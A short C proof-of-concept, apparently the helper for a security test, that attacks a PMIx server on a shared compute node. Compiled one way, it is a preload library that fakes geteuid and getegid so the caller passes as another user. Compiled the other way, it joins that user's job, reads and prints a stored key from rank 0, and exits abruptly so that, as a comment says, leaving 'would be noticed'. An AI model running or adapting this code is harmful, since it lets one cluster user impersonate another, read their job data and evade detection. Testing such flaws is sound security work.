/* Another user asks the PMIx server of a node where the ranks meet (attack.t), with the
 * job's name, a rank and the server's address, which can be guessed or seen. Who he is
 * PMIx takes from what he says: made with -DCLAIM, a library to preload that says
 * he is CLAIM_UID. Prints what it says. */
#include <stdlib.h>
#include <sys/types.h>

#ifdef CLAIM

uid_t geteuid(void)
{
	return (uid_t)atoi(getenv("CLAIM_UID"));
}

gid_t getegid(void)
{
	return (gid_t)atoi(getenv("CLAIM_UID"));
}

#else

#include <pmix.h>
#include <stdio.h>
#include <unistd.h>

int main(void)
{
	pmix_proc_t me, rank0;
	pmix_value_t *v = NULL;
	pmix_status_t rc = PMIx_Init(&me, NULL, 0);
	if (rc != PMIX_SUCCESS) {
		printf("refused: %s\n", PMIx_Error_string(rc));
		return 1;
	}
	PMIX_PROC_LOAD(&rank0, me.nspace, 0);
	rc = PMIx_Get(&rank0, "gradcomp.step", NULL, 0, &v);
	if (rc == PMIX_SUCCESS && v->type == PMIX_STRING)
		printf("step: %s\n", v->data.string);
	else
		printf("no step: %s\n", PMIx_Error_string(rc));
	fflush(stdout);
	/* Leaving in order would be noticed. */
	_exit(0);
}

#endif
